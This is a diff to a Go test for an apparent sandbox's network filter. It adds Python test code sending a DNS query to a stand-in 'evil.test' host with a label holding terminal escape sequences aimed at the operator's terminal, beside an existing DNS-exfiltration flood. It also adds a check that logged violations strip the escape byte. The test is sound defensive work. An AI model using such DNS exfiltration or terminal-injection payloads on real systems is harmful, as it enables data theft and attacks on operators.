@@ -327,6 +327,11 @@ func TestAttackNetDNSExfiltration(t *testing.T) {
 	requireRoot(t)
 	f := newNetFix(t)
 	r := jailPy(t, `import socket, secrets
+# First (the list of refusals is capped): a label holding a terminal escape
+# sequence, aimed at the operator's terminal.
+q = bytes.fromhex("abce01000001000000000000") + b"\x07\x1b[2J\x1b]0" + b"\x04evil\x04test\x00\x00\x01\x00\x01"
+e = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); e.settimeout(3)
+e.sendto(q, ("198.18.0.1", 53)); e.recv(512)
 n = 0
 for i in range(150):
     label = secrets.token_hex(31)
@@ -352,6 +357,11 @@ t.sendall(len(q).to_bytes(2, "big") + q); print("tcp rcode", t.recv(512)[5] & 15
 		if v.Kind == "dns" {
 			n += v.Count
 			listed++
+		}
+	}
+	for _, v := range r.Violations {
+		if strings.ContainsRune(v.Host, 0x1b) || strings.ContainsRune(v.Reason, 0x1b) {
+			t.Errorf("a violation carries the code's escape sequence: %q", v.Host)
 		}
 	}
 	if n < 152 || listed > 101 {
